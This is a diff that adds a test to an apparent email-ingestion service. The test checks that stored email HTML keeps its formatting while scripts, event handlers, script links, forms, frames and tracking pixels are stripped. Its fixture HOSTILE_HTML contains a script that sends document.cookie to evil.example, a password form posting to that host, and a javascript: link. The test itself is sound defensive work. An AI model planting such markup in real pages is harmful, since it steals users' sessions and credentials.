@@ -442,3 +442,59 @@ def test_an_email_with_a_huge_text_body_is_stored_not_retried_to_failure(channel
     assert message.body.startswith("aaaa aaab aaac")
     assert len(message.body) < len(text)
     assert message.metadata_["body_truncated"] is True
+
+
+HOSTILE_HTML = """<html><head><style>body{display:none}</style>
+<script>fetch('https://evil.example/?c='+document.cookie)</script></head>
+<body onload="steal()">
+<p onclick="steal()">Where is <b>my order</b>? <i>Thanks</i></p>
+<a href="javascript:steal()">click</a> <a href="https://shop.example/orders/1">order</a>
+<a href="data:text/html;base64,PHNjcmlwdD4=">phish</a> <a href="mailto:ada@example.com">me</a>
+<img src="https://tracker.example/open.gif?u=ada" width="1" height="1">
+<img src="cid:logo@mail.example" alt="logo">
+<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
+<form action="https://evil.example/login"><input name="password"></form>
+<iframe src="https://evil.example/"></iframe>
+<table><tr><td colspan="2">Item</td></tr></table><ul><li>one</li></ul>
+</body></html>"""
+
+
+def test_an_emails_html_is_stored_safe_to_render(channels):
+    """The HTML kept of an email (metadata.html) keeps the formatting and loses the
+    sender's scripts, handlers, script links, forms, frames and remote images (tracking
+    pixels), so whatever renders it later renders no attacker's markup."""
+    account = channels.account("email")
+    mime = _email(message_id="<hostile@mail.example>", html=HOSTILE_HTML)
+    assert channels.post_email(account, mime).status_code == 200
+    channels.settle()
+    message = channels.message("<hostile@mail.example>")
+    html = message.metadata_["html"]
+
+    for kept in (
+        "<b>my order</b>",
+        "<i>Thanks</i>",
+        '<a href="https://shop.example/orders/1" rel="noopener noreferrer">order</a>',
+        'href="mailto:ada@example.com"',
+        'src="cid:logo@mail.example"',
+        'src="data:image/png;base64,iVBORw0KGgo="',
+        '<td colspan="2">Item</td>',
+        "<li>one</li>",
+    ):
+        assert kept in html, kept
+    lowered = html.lower()
+    for gone in (
+        "<script",
+        "document.cookie",
+        "onload",
+        "onclick",
+        "javascript:",
+        "data:text/html",
+        "tracker.example",
+        "<form",
+        "<input",
+        "<iframe",
+        "<style",
+        "display:none",
+    ):
+        assert gone not in lowered, gone
+    assert message.body.strip() == "Where is my order?"  # the plain part, untouched
